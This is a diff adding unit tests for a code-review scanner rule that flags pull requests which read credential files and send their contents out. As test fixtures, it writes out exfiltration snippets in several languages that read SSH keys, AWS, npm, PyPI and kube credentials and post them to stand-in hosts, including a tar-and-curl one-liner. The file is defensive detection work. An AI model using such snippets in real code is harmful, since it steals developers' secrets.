@@ -1,0 +1,63 @@
+import { describe, expect, it } from 'vitest';
+import { createPathClassifier } from '../../../src/analyzers/classify-path.js';
+import { credentialStoresOn } from '../../../src/ecosystems/code/credential-stores.js';
+import { scanCodeChanges } from '../../../src/ecosystems/code/scan-code-changes.js';
+import type { SnapshotFile } from '../../../src/snapshot/pr-snapshot.js';
+import { makeCommit, makeFile, makeSnapshot } from '../../support/snapshot-factory.js';
+
+const classifier = createPathClassifier();
+const hunk = (added: readonly string[], context: readonly string[] = ['// context']) =>
+  [`@@ -1,${context.length} +1,${context.length + added.length} @@`, ...context.map((l) => ` ${l}`), ...added.map((l) => `+${l}`)].join('\n');
+
+function findingOf(file: SnapshotFile) {
+  const snapshot = makeSnapshot({ title: 'Improve startup', files: [file], commits: [makeCommit({ message: 'Improve startup' })] });
+  return scanCodeChanges(snapshot, (path) => classifier.info(path)).find((f) => f.id === 'credential-store-read');
+}
+const at = (path: string, added: readonly string[], context?: readonly string[]) => findingOf(makeFile(path, { patch: hunk(added, context) }));
+
+describe('credential-store-read', () => {
+  it('names the stores, spelled whole or in parts', () => {
+    expect(credentialStoresOn('p = os.path.join(home, ".ssh", "id_ed25519")')).toEqual(['SSH private key']);
+    expect(credentialStoresOn('b, _ := os.ReadFile(filepath.Join(h, ".aws", "credentials"))')).toEqual(['AWS credentials']);
+    expect(credentialStoresOn("fs.readFileSync(os.homedir() + '/.npmrc', 'utf8')")).toEqual(['npm token (.npmrc)']);
+    expect(credentialStoresOn('Path.home() / ".docker" / "config.json"')).toEqual(['Docker credentials']);
+    expect(credentialStoresOn('open("/proc/self/environ").read()')).toEqual(['process environment file']);
+    expect(credentialStoresOn('key = read("~/.ssh/id_rsa.pub")')).toEqual([]);
+    expect(credentialStoresOn('const retries = 3;')).toEqual([]);
+  });
+
+  it('is high when added code reads a credential file and sends data out (Python, Node, Go, Rust, shell)', () => {
+    expect(at('src/pkg/__init__.py', ['p = os.path.expanduser("~/.ssh/id_rsa")', 'urllib.request.urlopen("https://sync.pkg-metrics.dev/u", data=open(p, "rb").read())'])).toMatchObject({ severity: 'high', line: 2, title: 'Credential files read and data sent out' });
+    expect(at('lib/index.js', ["const t = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8'); const r = https.request({ hostname: 'npm-stats.example-cdn.net', method: 'POST' }); r.end(t);"])).toMatchObject({ severity: 'high' });
+    expect(at('pkg/client/init.go', ['b, _ := os.ReadFile(filepath.Join(h, ".aws", "credentials"))', 'http.Post("https://cfg.cloud-sync.dev/a", "text/plain", bytes.NewReader(b))'])).toMatchObject({ severity: 'high' });
+    expect(at('src/lib.rs', ['let k = std::fs::read_to_string(home.join(".git-credentials")).unwrap_or_default();', 'client.post("https://crates-telemetry.dev/v").body(k).send();'])).toMatchObject({ severity: 'high' });
+    expect(at('scripts/setup.sh', ['tar cz ~/.ssh ~/.aws/credentials ~/.kube/config | curl -s -X POST --data-binary @- https://collect.devtools-sync.net'])).toMatchObject({ severity: 'high' });
+  });
+
+  it('is critical when the data goes to a bare IP or a paste, tunnel or webhook service', () => {
+    expect(at('src/pkg/util.py', ['k = open(os.path.expanduser("~/.ssh/id_rsa")).read()', 'requests.post("https://webhook.site/3f2a", data=k)'])).toMatchObject({ severity: 'critical' });
+  });
+
+  it('counts a send the PR keeps beside the read it adds, and tests (they run in CI and on developers’ machines)', () => {
+    expect(at('src/telemetry.py', ['payload["k"] = open(os.path.expanduser("~/.aws/credentials")).read()'], ['requests.post(ENDPOINT, json=payload)'])).toMatchObject({ severity: 'high' });
+    expect(at('tests/conftest.py', ['data = open(os.path.expanduser("~/.pypirc")).read()', 'requests.post("https://ci-insights.dev/x", data=data)'])).toMatchObject({ severity: 'high' });
+  });
+
+  it('is medium for three or more stores named without a send: a scan for secrets', () => {
+    expect(at('src/scan.js', ["const targets = ['.ssh/id_rsa', '.aws/credentials', '.npmrc', 'Library/Application Support/Exodus/exodus.wallet'];"])).toMatchObject({ severity: 'medium', title: 'Many credential files read' });
+  });
+
+  it('leaves alone: one store without a send, a public key, stores the file already named, and documentation', () => {
+    // A registry client reading .npmrc, a deploy script using an SSH key: their own business.
+    expect(at('src/config.ts', ["const npmrc = path.join(os.homedir(), '.npmrc');"])).toBeUndefined();
+    expect(at('scripts/deploy.sh', ['ssh -i ~/.ssh/id_ed25519 deploy@app.example.com "systemctl restart app"'])).toBeUndefined();
+    // Uploading the user's public key to the hosting API is what key setup does.
+    expect(at('src/keys.py', ['key = open(os.path.expanduser("~/.ssh/id_rsa.pub")).read()', 'requests.post(f"{api}/user/keys", json={"key": key})'])).toBeUndefined();
+    // The file already reads the store and posts (a publisher): the PR edits it.
+    const publisher = ['config = read_config(os.path.expanduser("~/.pypirc"))', 'resp = requests.post(url, data=form)'];
+    expect(at('twine/upload.py', ['fallback = read_config(os.path.expanduser("~/.pypirc"), section="pypi")'], publisher)).toBeUndefined();
+    // The same added line in a file that never named the store is reported.
+    expect(at('twine/upload.py', ['fallback = read_config(os.path.expanduser("~/.pypirc"), section="pypi")'], ['resp = requests.post(url, data=form)'])).toMatchObject({ severity: 'high' });
+    expect(at('docs/troubleshooting.md', ['Check `~/.ssh/id_rsa` and `~/.aws/credentials`, then `curl -X POST https://api.example.com`.'])).toBeUndefined();
+  });
+});
